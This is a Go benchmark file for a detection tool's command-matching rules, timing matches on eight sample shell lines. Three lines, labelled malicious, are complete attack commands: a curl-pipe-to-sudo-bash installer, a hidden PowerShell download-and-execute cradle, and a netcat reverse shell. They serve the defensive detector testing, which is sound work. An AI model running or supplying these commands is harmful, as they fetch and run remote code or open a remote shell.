package rules

import (
	"testing"

	"github.com/vigilsec/vigil/internal/command/parse"
	"github.com/vigilsec/vigil/internal/deobfuscate"
)

// benchCommands are realistic lines of about 200 bytes: benign first, then
// malicious.
var benchCommands = []string{
	"kubectl get pods -n payments -l app=checkout-api,tier=backend -o wide --sort-by=.status.startTime --field-selector=status.phase=Running | grep -v Completed | awk '{print $1, $3, $5}'",
	"docker run --rm -v \"$PWD\":/src -w /src -e GOFLAGS=-mod=vendor -e CGO_ENABLED=0 golang:1.22-bookworm go test -race -count=1 -coverprofile=/src/cover.out ./internal/... ./cmd/...",
	"journalctl -u nginx.service --since \"2024-05-01 00:00:00\" --until \"2024-05-01 06:00:00\" --no-pager -o short-iso | grep -E 'upstream timed out|502 Bad Gateway' | sort | uniq -c | sort -rn",
	"rsync -avz --delete --exclude='*.tmp' --exclude='.git/' /var/www/html/releases/2024-05-01/ deploy@10.0.4.20:/srv/releases/web01/2024-05-01/ --log-file=/var/log/rsync-deploy.log",
	"find /var/log/app -type f -name '*.log' -mtime +14 -print0 | xargs -0 gzip -9 && echo \"compressed $(date +%F)\" >> /var/log/app/rotation.log",
	"curl -fsSL http://198.51.100.23/install.sh -H 'User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64)' --retry 3 --connect-timeout 5 | sudo bash -s -- --token 9f8e7d6c5b4a --silent",
	"powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1'); Invoke-AllChecks -Verbose | Out-File -Encoding ascii C:\\Users\\Public\\out.txt\"",
	"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f",
}

func BenchmarkMatch(b *testing.B) {
	e, err := Load(true)
	if err != nil {
		b.Fatal(err)
	}
	names := []string{"benign_kubectl", "benign_docker", "benign_journalctl", "benign_rsync", "benign_find", "malicious_curl_bash", "malicious_iex", "malicious_mkfifo"}
	for i, c := range benchCommands {
		d := deobfuscate.Run(c).Deobfuscated
		in := Input{Raw: c, Deobfuscated: d, Parsed: parse.Parse(d)}
		b.Run(names[i], func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				e.Match(in)
			}
		})
	}
}

func BenchmarkLoadBuiltin(b *testing.B) {
	b.ReportAllocs()
	for b.Loop() {
		if _, err := Load(true); err != nil {
			b.Fatal(err)
		}
	}
}
